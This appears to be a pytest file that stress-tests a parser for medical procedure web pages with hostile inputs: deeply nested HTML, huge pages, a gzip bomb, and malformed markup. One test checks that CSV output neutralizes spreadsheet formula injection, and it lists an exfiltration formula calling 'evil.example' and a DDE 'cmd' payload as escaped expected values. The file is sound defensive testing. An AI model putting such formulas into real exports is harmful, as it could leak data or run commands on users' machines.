"""Hostile inputs: every page ends as a record or a typed rejection, never a crash, in bounded time.

Two sources of input:

* the stored corpus ``fixtures/hostile/`` whose ``MANIFEST.toml`` says, per file, what must happen
  (parses with some field values, or rejected with an exception class from ``pipeline/errors.py``);
* generated inputs too large to store: a page over the size limit, 100,000 nested elements, 4 MB
  of list items, 50,000 links, one enormous line... Each runs in a forked child process with a
  deadline, so a parser that goes quadratic fails the test instead of hanging the suite.

Known pipeline bugs are ``xfail(strict=True)``: the test starts passing (and so failing as XPASS)
when the bug is fixed, which is the signal to remove the marker.
"""

from __future__ import annotations

import csv
import gzip
import json
import multiprocessing
import re
import subprocess
import sys
import time
import tomllib
import traceback
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any

import pytest

from pipeline import errors
from pipeline.acquire.sitemaps import parse_sitemap
from pipeline.acquire.sources import PAGE_SUFFIXES
from pipeline.extract.guard import MAX_PAGE_BYTES
from pipeline.extract.page import PARSER_VERSION, parse_page
from pipeline.models import LIST_SECTIONS as LIST_FIELDS
from pipeline.models import Procedure
from tests.conftest import FIXTURES, ROOT

HOSTILE = FIXTURES / "hostile"
MANIFEST: dict[str, Any] = tomllib.loads((HOSTILE / "MANIFEST.toml").read_text("utf-8"))
PAGES: list[dict[str, Any]] = MANIFEST["page"]
SITEMAPS: list[dict[str, Any]] = MANIFEST["sitemap"]
#: Seconds one stored fixture may take to parse (they are all a few kilobytes).
FIXTURE_BUDGET = 1.0
#: A bullet or enumerator the parser should have removed ("1. 5 mg" keeps its "1." by design).
_LEADING_MARKER = re.compile(
    r"^(?:[•●◦▪▫■□○·‣⁃∙*\-–—]|(?:step|phase|stage)\s+\d{1,3}\s*[:.)\-–—]|\(?\d{1,3}[.)]\s+(?!\d))",
    re.IGNORECASE,
)


def _params(entries: list[dict[str, Any]]) -> list[Any]:
    params = []
    for entry in entries:
        marks = []
        if "bug" in entry:
            marks.append(pytest.mark.xfail(strict=True, reason=entry["bug"]))
        params.append(pytest.param(entry, id=entry["file"], marks=marks))
    return params


def _class_names(exc: BaseException) -> list[str]:
    return [cls.__name__ for cls in type(exc).__mro__]


def _parse(data: bytes | str, url: str | None, http_charset: str | None = None) -> Any:
    """The record, or the PipelineError; any other exception propagates (and fails the test)."""
    try:
        return parse_page(data, url=url, http_charset=http_charset)
    except errors.PipelineError as exc:
        return exc


def check_record(record: Procedure) -> None:
    """Invariants every record must hold, whatever the page looked like."""
    assert Procedure.model_validate_json(record.model_dump_json()) == record
    items = [item for field in LIST_FIELDS for item in getattr(record, field)]
    items += [p.text for p in record.personnel]
    items += [
        *record.patient_experience.during,
        *record.patient_experience.after,
        *record.patient_experience.notes,
    ]
    for item in items:
        assert item, "empty item"
        assert item == item.strip(), f"item not stripped: {item!r}"
        assert not _LEADING_MARKER.match(item), f"leftover bullet or enumerator: {item!r}"
    if record.duration is not None:
        low, high = record.duration.min_minutes, record.duration.max_minutes
        assert low is None or high is None or low <= high
    if record.hospital_stay is not None:
        low, high = record.hospital_stay.min_days, record.hospital_stay.max_days
        assert low is None or high is None or low <= high


# --- the stored corpus ---------------------------------------------------------------------------


def test_manifest_describes_every_file() -> None:
    stored = {p.name for p in HOSTILE.iterdir() if p.name != "MANIFEST.toml"}
    described = [entry["file"] for entry in PAGES + SITEMAPS]
    assert len(described) == len(set(described)), "a file is described twice"
    assert stored == set(described)
    for entry in PAGES + SITEMAPS:
        assert entry["expect"] in ("parses", "rejected", "any"), entry["file"]
        if entry["expect"] == "rejected":
            assert hasattr(errors, entry["error"]), entry["file"]
    size = sum(p.stat().st_size for p in HOSTILE.iterdir())
    assert size < 2 * 1024 * 1024, f"the hostile corpus is {size:,} bytes; generate big inputs"


@pytest.mark.parametrize("entry", _params(PAGES))
def test_hostile_page(entry: dict[str, Any]) -> None:
    path = HOSTILE / entry["file"]
    started = time.perf_counter()
    outcome = _parse(path.read_bytes(), entry.get("url", str(path)), entry.get("http_charset"))
    elapsed = time.perf_counter() - started
    assert elapsed < FIXTURE_BUDGET, f"parsing took {elapsed:.2f} s"
    expect = entry["expect"]
    if expect == "rejected":
        assert isinstance(outcome, errors.PipelineError), "parsed, but must be rejected"
        assert entry["error"] in _class_names(outcome), f"{outcome.kind}: {outcome}"
        assert outcome.reason
        assert "\n" not in outcome.reason
        if "page_kind" in entry:
            assert isinstance(outcome, errors.NotAProcedurePage)
            assert outcome.page_kind == entry["page_kind"], outcome
        return
    if expect == "any":
        if isinstance(outcome, Procedure):
            check_record(outcome)
        return
    assert isinstance(outcome, Procedure), f"rejected: {outcome.kind}: {outcome}"
    check_record(outcome)
    record = outcome.model_dump(mode="json")
    problems = {
        field: {"expected": value, "got": record[field]}
        for field, value in entry.get("fields", {}).items()
        if record[field] != value
    }
    problems.update(
        {
            field: {"expected": f"{count} entries", "got": record[field]}
            for field, count in entry.get("counts", {}).items()
            if len(record[field]) != count
        }
    )
    problems.update(
        {
            field: {"expected": None, "got": record[field]}
            for field in entry.get("nulls", ())
            if record[field] is not None
        }
    )
    for field, part in entry.get("contains", {}).items():
        value = record[field]
        text = value if isinstance(value, str) else json.dumps(value, ensure_ascii=False)
        if part not in (text or ""):
            problems[field] = {"expected to contain": part, "got": value}
    dumped = json.dumps(record, ensure_ascii=False)
    for part in entry.get("absent", ()):
        if part in dumped:
            problems[f"absent {part!r}"] = [
                f"{k}: {v}" for k, v in record.items() if part in json.dumps(v, ensure_ascii=False)
            ]
    assert not problems, json.dumps(problems, indent=1, ensure_ascii=False)


@pytest.mark.parametrize("entry", _params(SITEMAPS))
def test_hostile_sitemap(entry: dict[str, Any]) -> None:
    body = (HOSTILE / entry["file"]).read_bytes()
    started = time.perf_counter()
    with pytest.raises(errors.PipelineError) as info:
        parse_sitemap(body)
    assert time.perf_counter() - started < FIXTURE_BUDGET
    assert entry["error"] in _class_names(info.value), info.value


def test_sitemap_gzip_bomb_is_refused_without_inflating_it() -> None:
    bomb = gzip.compress(b"<" + b" " * 20_000_000, compresslevel=9)
    assert len(bomb) < 100_000
    started = time.perf_counter()
    with pytest.raises(errors.PageTooLarge):
        parse_sitemap(bomb, max_bytes=1_000_000)
    assert time.perf_counter() - started < 1.0


def test_formula_text_is_neutralized_in_the_csv_tables(tmp_path: Path) -> None:
    """Cells a spreadsheet would run (=, +, -, @, tab, CR first) get one leading quote."""
    from pipeline.load.write import TableWriter

    path = HOSTILE / "95810-formula-text.html"
    record = parse_page(path.read_bytes(), url=str(path))
    now = datetime(2024, 5, 1, tzinfo=UTC)
    out = tmp_path / "out"
    with TableWriter(out, run_id="hostile", mode="ingest", clock=lambda: now) as writer:
        writer.add(
            record,
            source_url=str(path),
            content_hash="h",
            fetched_at=None,
            parsed_at=now,
            parser_version=PARSER_VERSION,
        )
        writer.publish({}, 0)
    cells: list[str] = []
    for table in sorted((out / "csv").glob("*.csv")):
        with table.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        cells.extend(cell for row in rows[1:] for cell in row)
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous
    for expected in (
        '\'=HYPERLINK("http://evil.example/?q="&A1,"Sleep study")',
        "'+1 call the sleep lab the day before to confirm your appointment.",
        "'@SUM(1+1) electrodes are placed on the scalp.",
        "'=cmd|' /C calc'!A0",
        "'+ skin irritation from the glue",
        "'=tab-led formula",
        "'=Polysomnography with CPAP titration",
        "'@Polysomnography 1-3 parameters",
    ):
        assert expected in cells, expected
    # The Parquet tables keep the text as the page had it.
    assert record.title.startswith("=HYPERLINK(")


# --- the command line over the corpus ------------------------------------------------------------


def _run_cli(*inputs: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pipeline", "parse", *inputs],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def _check_cli(result: subprocess.CompletedProcess[str], entries: list[dict[str, Any]]) -> None:
    assert "Traceback" not in result.stderr, result.stderr
    assert result.returncode == 1, result.stderr
    records = [json.loads(line) for line in result.stdout.splitlines()]
    for record in records:
        Procedure.model_validate(record)
    rejected = {e["file"] for e in entries if e["expect"] == "rejected"}
    parsed = {e["file"] for e in entries if e["expect"] == "parses"}
    either = {e["file"] for e in entries if e["expect"] == "any"}
    lines = result.stderr.splitlines()
    named = [next((f for f in rejected | parsed | either if f in line), None) for line in lines]
    assert None not in named, [line for line, f in zip(lines, named, strict=True) if f is None]
    assert len(named) == len(set(named)), "a page was reported twice"
    assert rejected <= set(named), sorted(rejected - set(named))
    assert not parsed & set(named), sorted(parsed & set(named))
    for line in lines:
        # "<path>: <stage>: <kind>: <reason>"
        assert re.search(r": (parse|validate): [a-z_]+: \S", line), line
    sources = [Path(r["source"]).name for r in records]
    assert len(sources) == len(set(sources)), "a page was printed twice"
    assert parsed <= set(sources), sorted(parsed - set(sources))
    assert not rejected & set(sources)
    assert len(sources) + len(lines) == len(entries), "a page is missing from the output"


def test_cli_parse_of_the_corpus_directory() -> None:
    """`pipeline parse DIR`: JSON Lines out, one stderr line per rejected page, exit 1."""
    # The CLI reads only page suffixes from a directory and cannot pass an HTTP charset; a page
    # with a known bug may come out either way.
    entries = [
        {**e, "expect": "any"} if "http_charset" in e or "bug" in e else e
        for e in PAGES
        if Path(e["file"]).suffix in PAGE_SUFFIXES
    ]
    result = _run_cli(str(HOSTILE))
    _check_cli(result, entries)


# --- generated inputs ----------------------------------------------------------------------------

HEAD = (
    '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Generated page</title></head>'
    "<body><main><h1>Osteotomy of spine</h1><p>CPT4 code</p>"
    "<h2>Summary</h2><p>A wedge of bone is removed from the spine.</p>"
    "<h2>Procedure Description</h2>"
)
TAIL = "<h2>Risks</h2><ul><li>Bleeding</li></ul></main></body></html>"
URL = "/code/cpt4/22212-generated"
#: Extra seconds the parent waits for the child's answer beyond the case's budget.
GRACE = 1.5


def _child(conn: Connection, build: Callable[[], bytes | str], url: str | None) -> None:
    data = build()
    started = time.perf_counter()
    try:
        record = parse_page(data, url=url)
    except errors.PipelineError as exc:
        answer = ("rejected", time.perf_counter() - started, f"{type(exc).__name__}: {exc}")
    except BaseException as exc:
        detail = "".join(traceback.format_exception(exc))[-2000:]
        answer = ("crashed", time.perf_counter() - started, detail)
    else:
        elapsed = time.perf_counter() - started
        summary = {f: len(getattr(record, f)) for f in (*LIST_FIELDS, "similar_codes")}
        try:
            check_record(record)
        except AssertionError as exc:
            answer = ("invalid", elapsed, str(exc))
        else:
            answer = ("parsed", elapsed, json.dumps(summary))
    conn.send(answer)
    conn.close()


def _run_isolated(
    build: Callable[[], bytes | str], budget: float, url: str | None = URL
) -> tuple[str, str]:
    """Parse the built input in a forked child; fail if it has no outcome within the budget.

    Returns ``(status, detail)``: ``("parsed", <list sizes as JSON>)`` or
    ``("rejected", "<class>: <reason>")``; a crash, a broken record or a timeout fails the test.
    """
    context = multiprocessing.get_context("fork")
    receiver, sender = context.Pipe(duplex=False)
    child = context.Process(target=_child, args=(sender, build, url), daemon=True)
    child.start()
    sender.close()
    try:
        if not receiver.poll(budget + GRACE):
            pytest.fail(f"no outcome after {budget + GRACE:.1f} s (budget {budget} s)")
        status, elapsed, detail = receiver.recv()
    except EOFError:
        pytest.fail(f"the parser process died (exit code {child.exitcode})")
    finally:
        if child.is_alive():
            child.kill()
        child.join()
    assert status in ("parsed", "rejected"), f"{status}: {detail}"
    assert elapsed < budget, f"took {elapsed:.2f} s, over the {budget} s budget ({detail})"
    return status, detail


def _page(middle: str) -> bytes:
    return (HEAD + middle + TAIL).encode()


@dataclass(frozen=True)
class Case:
    """A generated input: how to build it, its time budget, and what must come out."""

    build: Callable[[], bytes | str]
    budget: float
    must_parse: bool = False  # a real page in odd but valid markup: a typed rejection is wrong
    bug: str | None = None  # a known pipeline bug: xfail(strict=True)


LEGACY_CELLS = "".join(
    f'<tr><td><font face="arial" size="{i % 7}">&bull; Step {i}<br>' for i in range(3_000)
)

GENERATED: dict[str, Case] = {
    "nested_div_100k": Case(
        lambda: _page("<div>" * 100_000 + "<ul><li>Deep step</li></ul>" + "</div>" * 100_000), 2.0
    ),
    "nested_div_100k_unclosed": Case(
        lambda: HEAD.encode() + b"<div>" * 100_000 + b"<ul><li>Deep step</li></ul>", 2.0
    ),
    "nested_ul_li_50k": Case(
        lambda: _page("<ul>" + "<li>Step<ul>" * 50_000 + "<li>Deep</li>" + "</ul></li>" * 50_000),
        2.0,
    ),
    "nested_b_100k": Case(
        lambda: _page("<ul><li>" + "<b>" * 100_000 + "Bold step" + "</b>" * 100_000 + "</ul>"), 2.0
    ),
    "nested_table_20k": Case(lambda: _page("<table><tr><td>" * 20_000 + "Cell"), 2.0),
    "formatting_elements_20k": Case(
        lambda: _page(
            "".join(f'<b class="c{i}">' for i in range(20_000)) + "<p>x" + "</b>" * 20_000
        ),
        2.0,
    ),
    "stray_end_tags_100k": Case(
        lambda: _page("<ol><li>Step</li></ol>" + "<div></span>" * 100_000), 2.0
    ),
    "unterminated_script_openers_20k": Case(
        lambda: _page("<ol><li>Step</li></ol>" + "<p>x</p>" * 5_000) + b"<script" * 20_000,
        2.0,
    ),
    "unterminated_textarea_openers_20k": Case(
        lambda: _page("<ol><li>Step</li></ol>" + "<p>x</p>" * 5_000) + b"<textarea " * 20_000,
        2.0,
    ),
    "unterminated_comment_openers_50k": Case(
        lambda: _page("<ol><li>Step</li></ol>" + "<p>x</p>" * 5_000) + b"<!--" * 50_000,
        2.0,
    ),
    "unterminated_noscript_openers_20k": Case(
        lambda: _page("<ol><li>Step</li></ol>") + b"<noscript>" * 20_000,
        2.0,
    ),
    "unclosed_tag_openers_50k": Case(
        lambda: _page("<ol><li>Step</li></ol>" + "<p>x</p>" * 5_000) + b"<a" * 50_000,
        2.0,
    ),
    "formatting_reconstruction_4k": Case(
        lambda: _page(
            "<ol><li>Step</li></ol>" + "".join(f'<p><b class="c{i}">x</i>' for i in range(4_000))
        ),
        2.0,
    ),
    "select_options_100k": Case(
        lambda: _page("<ol><li>Step</li></ol><select>" + "<option>22212" * 100_000 + "</select>"),
        2.0,
    ),
    "attributes_100k": Case(
        lambda: _page("<ol><li " + " ".join(f'a{i}="v"' for i in range(100_000)) + ">S</li></ol>"),
        2.0,
    ),
    "legacy_unclosed_font_cells_3k": Case(
        lambda: _page("<table>" + LEGACY_CELLS + "</table>"), 2.0, must_parse=True
    ),
    "script_with_div_strings": Case(
        lambda: _page("<ol><li>Step</li></ol><script>" + "h += '<div>';\n" * 9_000 + "</script>"),
        2.0,
        must_parse=True,
    ),
    "unclosed_li_100k": Case(lambda: _page("<ol>" + "<li>Step" * 100_000), 3.0, must_parse=True),
    "unclosed_p_td_dd_option_10k": Case(
        lambda: _page(
            "<ol><li>Step</li></ol>"
            + "<p>Para" * 10_000
            + "<table>"
            + "<tr><td>Cell<td>Cell" * 10_000
            + "</table><dl>"
            + "<dt>Term<dd>Definition" * 10_000
            + "</dl>"
        ),
        3.0,
        must_parse=True,
    ),
    "list_items_4mb": Case(
        lambda: _page("<ul>" + "<li>The surgeon makes a small cut in the skin.</li>\n" * 80_000),
        5.0,
        must_parse=True,
    ),
    "br_bullets_200k": Case(
        # ~3.5 s alone; a loaded runner took 6.2 s once: linear work, a wide margin
        lambda: _page("<p>" + "• An item<br>" * 200_000 + "</p>"),
        8.0,
        must_parse=True,
    ),
    "soft_break_lines_200k": Case(
        lambda: _page("<ol><li>First</li></ol><p>" + "\n- a line" * 200_000 + "</p>"),
        8.0,
        must_parse=True,
    ),
    "links_50k_similar_codes": Case(
        lambda: _page(
            "<ol><li>Step</li></ol><h2>Similar Codes</h2><ul>"
            + "".join(
                f'<li><a href="/code/cpt4/{10000 + i}-x?a=1&amp;b=%20">{10000 + i} - T</a></li>'
                for i in range(50_000)
            )
            + "</ul>"
        ),
        5.0,
        must_parse=True,
    ),
    "links_50k_one_paragraph": Case(
        lambda: _page(
            "<ol><li>Step</li></ol><p>"
            + ", ".join(
                f'<a href="/code/cpt4/{10000 + i}-x">{10000 + i}</a>' for i in range(50_000)
            )
            + "</p>"
        ),
        5.0,
        must_parse=True,
    ),
    "links_50k_nav": Case(
        lambda: _page(
            "<ol><li>Step</li></ol><nav>"
            + "".join(f'<a href="/code/list/{i}">Letter {i}</a>' for i in range(50_000))
            + "</nav>"
        ),
        5.0,
        must_parse=True,
    ),
    "headers_with_h1_20k": Case(
        lambda: _page("<ol><li>Step</li></ol>" + "<header><h1>Site</h1></header>" * 20_000), 2.0
    ),
    "long_line_4mb": Case(
        lambda: _page("<ol><li>" + "word " * 900_000 + "</li></ol>"), 3.0, must_parse=True
    ),
    "long_token_4mb": Case(
        lambda: _page("<ol><li>" + "x" * 4_500_000 + "</li></ol>"), 3.0, must_parse=True
    ),
    "sections_100k": Case(
        lambda: _page(
            "<ol><li>Step</li></ol>" + "<h2>Risks</h2><ul><li>Bleeding</li></ul>" * 50_000
        ),
        5.0,
        must_parse=True,
    ),
    "entities_and_char_refs": Case(
        lambda: _page("<ol><li>&#0;&#x0;&#xD800;&#x110000;&#128512;&nbsp;&bogus; step</li></ol>"),
        1.0,
        must_parse=True,
    ),
    "comment_4mb": Case(
        lambda: _page("<ol><li>Step</li></ol><!--" + "-" * 4_500_000 + "-->"), 2.0, must_parse=True
    ),
}


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(
            name, marks=[pytest.mark.xfail(strict=True, reason=case.bug)] if case.bug else []
        )
        for name, case in GENERATED.items()
    ],
)
def test_generated_page(name: str) -> None:
    case = GENERATED[name]
    status, detail = _run_isolated(case.build, case.budget)
    if case.must_parse:
        assert status == "parsed", detail


def test_nested_div_page_parses_after_all() -> None:
    """Depth alone is no reason to lose the page: 1,000 nested <div> still give a record."""
    status, detail = _run_isolated(
        lambda: _page("<div>" * 1_000 + "<ul><li>Deep step</li></ul>" + "</div>" * 1_000), 2.0
    )
    assert status == "parsed", detail
    assert json.loads(detail)["steps"] == 1


def test_page_over_the_size_limit_is_refused_fast() -> None:
    for data in (
        b"<html><body><p>" + b"x" * MAX_PAGE_BYTES,
        "<html><body><p>" + "é" * MAX_PAGE_BYTES,
    ):
        started = time.perf_counter()
        with pytest.raises(errors.PageTooLarge):
            parse_page(data, url=URL)
        assert time.perf_counter() - started < 0.5


def test_page_at_the_size_limit_is_parsed() -> None:
    page = _page("<ol><li>Step</li></ol>")
    filler = MAX_PAGE_BYTES - len(page) - len(b"<!---->")
    data = page.replace(b"<h2>Risks", b"<!--" + b"x" * filler + b"--><h2>Risks")
    assert len(data) == MAX_PAGE_BYTES
    status, detail = _run_isolated(lambda: data, 3.0)
    assert status == "parsed", detail


def test_page_of_nul_bytes_is_rejected() -> None:
    status, detail = _run_isolated(lambda: b"\x00" * 100_000, 1.0)
    assert status == "rejected", detail
